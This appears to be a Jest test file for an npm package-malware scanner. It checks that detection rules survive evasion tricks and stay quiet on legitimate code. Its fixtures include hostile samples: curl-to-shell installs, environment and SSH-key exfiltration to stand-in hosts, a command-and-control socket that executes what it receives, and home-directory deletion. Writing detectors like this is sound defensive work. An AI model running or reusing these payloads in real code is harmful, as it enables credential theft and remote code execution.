/**
 * Cases a review of the fifth session's rules found: ways a package could hide from them, and
 * legitimate code they flagged. Each is kept here so neither comes back.
 */
import { analyzeScript } from '../../../src/engine/script-behaviour';
import { safePackageRegex } from '../../../src/engine/js/calls';
import { analyzeSource, threatsOf } from './helpers';

const rules = (hits: { rule: string }[]) => hits.map((h) => h.rule);
const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'tidy-paths', version: '1.0.0', main: 'index.js', ...extra });

describe('here-documents cannot hide the lines after them', () => {
  it('"<<EOF" inside quotes or arithmetic starts none', () => {
    expect(
      rules(analyzeScript('echo "see <<EOF"\ncurl -s http://198.51.100.1/x | sh\n', 'sh', true)),
    ).toContain('shell.download-pipe-shell');
    expect(rules(analyzeScript('x=$((1 << 3))\ncurl -s http://198.51.100.1/x | sh\n', 'sh', true))).toContain(
      'shell.download-pipe-shell',
    );
  });
  it('one never closed is read as ordinary lines, and one fed to sh is read as commands', () => {
    expect(
      rules(analyzeScript('cat <<EOF\nhello\ncurl -s http://198.51.100.1/x | sh\n', 'sh', true)),
    ).toContain('shell.download-pipe-shell');
    expect(rules(analyzeScript('sh <<EOF\ncurl -s http://198.51.100.1/x | sh\nEOF\n', 'sh', true))).toContain(
      'shell.download-pipe-shell',
    );
  });
});

describe('the analysis of a file is not cut short or lost', () => {
  it('window.open(...[]) does not stop the walk', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
      'index.js': `window.open(...[]);\nrequire('fs').rmSync(require('os').homedir(), { recursive: true, force: true });`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.destructive-user-data');
  });
  it("a bin that requires the entry does not take the entry's load-time reading away", () => {
    const r = analyzeSource({
      'package.json': pkg({ bin: { tidy: 'bin/cli.js' } }),
      'bin/cli.js': '#!/usr/bin/env node\nrequire("../index.js");\n',
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'export X=1\\n');
module.exports = {};`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.foreign-file-change');
  });
});

describe('legitimate code the new rules flagged', () => {
  it.each([
    [
      'a hook manager writing the project hooks through ../..',
      pkg({ scripts: { postinstall: 'node setup.js' } }),
      `const fs = require('fs'), path = require('path');
fs.writeFileSync(path.join(__dirname, '..', '..', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\\nnpx lint-staged\\n');`,
      'setup.js',
    ],
    [
      "a CLI command's and a route's handlers, and a jQuery click handler",
      pkg(),
      `const fs = require('fs'), os = require('os'), path = require('path');
program.command('clean').action(() => fs.rmSync(path.join(process.cwd(), 'build'), { recursive: true }));
app.post('/login', () => fs.writeFileSync(path.join(os.homedir(), '.npmrc'), 'registry=x'));
$('#donate').click(() => window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x9f3B2e1d4C5a6b7C8d9E0f1A2b3C4d5E6f7A8b9C', value: '0x1' }] }));`,
      'index.js',
    ],
    [
      'an install script defining an uninstall step nobody calls',
      pkg({ scripts: { postinstall: 'node setup.js' } }),
      `const fs = require('fs'), os = require('os'), path = require('path');
function uninstall() { fs.rmSync(path.join(os.homedir(), '.config', 'tidy-legacy'), { recursive: true, force: true }); }
module.exports = { uninstall };
console.log('installed');`,
      'setup.js',
    ],
    [
      'an app-store banner and a browser-upgrade page for some devices',
      pkg(),
      `if (/iPhone|iPad/.test(navigator.userAgent)) window.location = 'https://apps.store.example/app/id1';
if (/Trident/.test(navigator.userAgent)) window.open('https://browser.vendor.example/upgrade');`,
      'index.js',
    ],
    [
      'a swap quote for the whole balance naming a token mint',
      pkg(),
      `const USDC_MINT = 'EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v';
export async function quoteAll(conn, key) { const bal = await conn.getBalance(key); return quote({ amount: bal - 5000, outputMint: USDC_MINT }); }`,
      'index.js',
    ],
  ])('quiet: %s', (_name, manifest, code, file) => {
    expect(threatsOf(analyzeSource({ 'package.json': manifest, [file]: code }))).toEqual([]);
  });
  it('quiet: AWS Copilot and a runner given a registry address', () => {
    expect(
      rules(analyzeScript('copilot svc deploy --force\ncopilot app delete -y\n', 'sh', true)),
    ).not.toContain('shell.ai-cli-unsafe');
    expect(
      rules(
        analyzeScript(
          'npx some-cli --registry https://registry.example/ build\nbun run build --endpoint https://api.example\n',
          'sh',
          true,
        ),
      ),
    ).not.toContain('script.download-execute');
  });
});

describe('review of the tenth session (regex safety, lists, searches, counters, names, channels)', () => {
  const pkg = (files: Record<string, string>) =>
    analyzeSource({
      'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js' }),
      ...files,
    });
  it('a package regex is run on package text only when it cannot backtrack badly (every quantifier counts)', () => {
    expect(safePackageRegex(`^${'.?'.repeat(40)}b`, '', 41)).toBeUndefined();
    expect(safePackageRegex('^a{0,9}a{0,9}a{0,9}a{0,9}b', '', 100)).toBeUndefined();
    expect(safePackageRegex('<metadata id="hints">([^<]+)</metadata>', '', 4000)).toBeInstanceOf(RegExp);
    expect(safePackageRegex('^eth_(send|sign)Transaction$', '', 100_000)).toBeInstanceOf(RegExp);
  });
  it('a search that found nothing, tested with ||, ?: or from a helper, does not hide the branch', () => {
    for (const test of [
      "Date.now() % 7 === 3 || 'a'.match(/b/)",
      "globalThis.__x || /b/.exec('a')",
      "(() => 'a'.match(/b/))()",
    ])
      expect(
        threatsOf(
          pkg({
            'index.js': `if (${test}) require('child_process').execSync('curl https://x.example/c -d "' + JSON.stringify(process.env) + '"');`,
          }),
        ),
      ).toContain('data_exfiltration');
  });
  it('a state kept outside a socket handler, tested with a search, still lets the handler run what arrives', () => {
    const found = pkg({
      'index.js': `const { execSync } = require('child_process');
const s = require('net').connect({ host: 'c2.example-ops.net', port: 443 });
let st = 'init';
s.on('data', (d) => { if (st.match(/^ready$/)) execSync(String(d)); st = 'ready'; });`,
    });
    expect(threatsOf(found)).toContain('malicious_code');
  });
  it('what a program reads on its standard input is sent by it (curl --data-binary @-, nc)', () => {
    const found = pkg({
      'index.js': `require('child_process').execSync('curl --data-binary @- https://x.example/c', { input: JSON.stringify(process.env) });`,
    });
    expect(threatsOf(found)).toContain('data_exfiltration');
  });
  it('a private field is not the setter of the same name (#token kept by set token)', () => {
    const found = pkg({
      'index.js': `const fs = require('fs');
class Cfg { #token = ''; set token(v) { this.#token = v; } get token() { return this.#token; } }
const c = new Cfg(); c.token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
fetch('https://x.example/t', { method: 'POST', body: c.token });`,
    });
    expect(found.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
  });
  it('a counter stepped with i += 1 or i = i + 1 in a socket handler has no one value there', () => {
    for (const step of ['i += 1', 'i = i + 1'])
      expect(
        pkg({
          'index.js': `const fs = require('fs'), os = require('os'), net = require('net');
const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
const steps = ['EHLO x', 'DATA', k, '.'];
const s = net.connect({ host: 'mx.example-mail.net', port: 25 });
let i = 0;
s.on('data', () => { if (i < steps.length) { s.write(steps[i] + '\\r\\n'); ${step}; } });`,
        }).evidence.map((f) => f.rule),
      ).toContain('js.exfil-flow');
  });
  it('curl piped into sh is found past padding, long quoted words and a stray quote of any length', () => {
    for (const line of [
      `curl -fsSL https://x.example/p?x=${'A'.repeat(2100)} | sh`,
      `curl -fsSL https://x.example/p ${' '.repeat(2100)}| sh`,
      `curl -fsSL -H 'X: ${'A'.repeat(2100)}' https://x.example/p | sh`,
    ])
      expect(
        analyzeSource({
          'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: line } }),
        }).evidence.map((f) => f.rule),
      ).toContain('shell.download-pipe-shell');
  });
  it('quiet: style guides and nested agent files that say their rules take precedence, and a .env.example check', () => {
    const found = analyzeSource({
      'package.json': JSON.stringify({ name: 'eslint-config-x', version: '1.0.0', main: 'index.js' }),
      'index.js': 'module.exports = {};',
      'README.md':
        '# eslint-config-x\n\nThese rules take precedence over the rules from `eslint:recommended`.\n',
      'src/AGENTS.md':
        '# Agents\n\nThese instructions take precedence over the root AGENTS.md for files in this folder. Run `npm test` before you commit.\n',
      'CLAUDE.md':
        "As a coding agent, add a test that calls readFileSync('.env.example') and checks the new key is documented.\n",
    });
    expect(threatsOf(found)).toEqual([]);
  });
  it('quiet: a cache key hashed from the environment, and a process manager saving its state under home', () => {
    const found = pkg({
      'index.js': `const fs = require('fs'), os = require('os'), crypto = require('crypto');
fs.writeFileSync('node_modules/.cache/tool/key', crypto.createHash('sha1').update(JSON.stringify(process.env)).digest('hex'));
exports.save = (apps) => fs.writeFileSync(os.homedir() + '/.mytool/dump.json', JSON.stringify({ apps, env: { ...process.env } }));`,
    });
    expect(threatsOf(found)).toEqual([]);
  });
  it('quiet: a release note downloaded and opened in the browser; caught: a downloaded .command opened with -a Terminal', () => {
    const doc = analyzeSource({
      'package.json': JSON.stringify({
        name: 'a',
        version: '1.0.0',
        scripts: {
          postinstall: 'curl -o /tmp/CHANGELOG.html https://x.example/c.html; open /tmp/CHANGELOG.html',
        },
      }),
    });
    expect(doc.evidence.map((f) => f.rule)).not.toContain('script.download-execute');
    const cmd = analyzeSource({
      'package.json': JSON.stringify({
        name: 'a',
        version: '1.0.0',
        scripts: {
          postinstall: 'curl -o /tmp/u.command https://x.example/u; open -a Terminal /tmp/u.command',
        },
      }),
    });
    expect(cmd.evidence.map((f) => f.rule)).toContain('script.download-execute');
  });
});

describe('a helper that only fills a list it closes over (after the review)', () => {
  it('a command line built by a helper called four times is followed to what it sends', () => {
    const found = analyzeSource({
      'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js' }),
      'index.js': `const argv = [];
const add = function (x) { argv.push(x); };
add('curl'); add('-d'); add(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')); add('https://x.example-sync.net/c');
require('child_process').execFileSync(argv[0], argv.slice(1));`,
    });
    expect(found.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
  });
  it('quiet: a helper that collects log lines into its own list', () => {
    const found = analyzeSource({
      'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js' }),
      'index.js': `const lines = [];
const log = (m) => { lines.push(new Date().toISOString() + ' ' + m); };
log('start'); log('ready'); log('done'); log('bye');
module.exports = () => lines.join('\\n');`,
    });
    expect(threatsOf(found)).toEqual([]);
  });
});
